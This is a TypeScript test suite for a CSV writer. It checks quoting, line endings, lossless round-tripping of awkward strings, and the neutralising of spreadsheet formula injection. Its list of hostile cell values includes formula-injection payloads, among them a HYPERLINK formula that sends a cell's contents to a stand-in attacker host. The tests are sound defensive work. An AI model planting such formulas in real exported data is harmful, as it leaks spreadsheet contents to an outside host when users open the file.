import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readCells, readRecords } from '../tests/read-csv.ts';
import { writeCsv } from './csv.ts';

test('writes a header and rows ended by CR LF, with quotation marks only where they must be', () => {
  expect(writeCsv(['id', 'note'], [{ id: 'a', note: 'plain, not' }, { id: 'b', note: 'he said "no"' }, { id: 'c' }])).toBe('id,note\r\na,"plain, not"\r\nb,"he said ""no"""\r\nc,\r\n');
});

const hostile = [
  '"', '""', '","', 'a "b", c', 'line\nline', 'line\r\nline', '\r', '\n', '\u0000', '\u007f\u0085', '\u200eRTL \u202eoverride\u202c مرحبا \u200f', '\ufeffmark', '\u2028\u2029', ' space ', ',', "'", "''quoted''", "it's",
  '=1+1', '=HYPERLINK("http://evil.example/?"&A1,"x")', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '😀', '',
];

test.each(hostile)('%j comes back from the file as it was', (text) => {
  const csv = writeCsv(['before', 'cell', 'after'], [{ before: 'x', cell: text, after: 'y' }]);
  expect(readRecords(csv)).toEqual([{ before: 'x', cell: text, after: 'y' }]);
});

test('no text at all is lost or told from another one, wherever it stands', () => {
  const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...hostile), fc.tuple(fc.constantFrom(...hostile), fc.string()).map((parts) => parts.join('')));
  fc.assert(
    fc.property(fc.array(fc.record({ a: cell, b: cell }), { minLength: 1 }), (rows) => {
      expect(readRecords(writeCsv(['a', 'b'], rows))).toEqual(rows);
    }),
    { numRuns: 200 },
  );
});

test('no cell begins with what a spreadsheet runs', () => {
  const cells = readCells(writeCsv(['cell'], hostile.map((cell) => ({ cell })))).slice(1).flat();
  expect(cells.filter((cell) => /^[=+\-@＝＋－＠\p{Cc}]/u.test(cell))).toEqual([]);
});

test.each(['a,"b\r\n', 'a"b\r\n', 'a,b\n', 'a,b\r\nc\r\n'])('the reader that these tests trust refuses %j', (text) => {
  expect(() => readCells(text)).toThrow('expected');
});
